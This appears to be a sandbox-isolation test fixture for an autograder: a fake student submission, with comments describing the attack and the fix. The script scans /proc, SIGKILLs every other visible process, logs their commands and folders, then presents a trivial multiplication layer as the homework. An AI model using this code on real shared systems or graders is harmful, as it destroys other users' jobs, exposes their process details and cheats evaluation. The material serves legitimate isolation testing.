# attack: once the test says another student's job is running (a file `go` in its own folder), scans /proc and SIGKILLs every process it can see but itself, writes what it saw (pid, command, working folder) to `seen`, and waits for `ack`; then passes itself
# before: it saw and killed the other students' jobs and the warm workers (all run as `nobody`); they were graded again, alone
# outcome: it sees only what runs in its own job; no other student's job is touched or graded again
import json
import os
import signal
import time

while not os.path.exists("go"):
    time.sleep(0.01)
seen = []
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) == os.getpid():
        continue
    try:
        with open(f"/proc/{entry}/cmdline", "rb") as f:
            command = f.read().split(b"\0")[0].decode("utf-8", "replace")
    except OSError:
        command = None
    try:
        cwd = os.readlink(f"/proc/{entry}/cwd")
    except OSError:
        cwd = None
    try:
        os.kill(int(entry), signal.SIGKILL)
        killed = True
    except OSError:
        killed = False
    seen.append({"pid": int(entry), "command": command, "cwd": cwd, "killed": killed})
with open("seen.tmp", "w") as f:
    json.dump({"me": os.getcwd(), "seen": seen}, f)
os.rename("seen.tmp", "seen")
while not os.path.exists("ack"):
    time.sleep(0.01)


class MulLayer:
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dout):
        return dout * self.y, dout * self.x
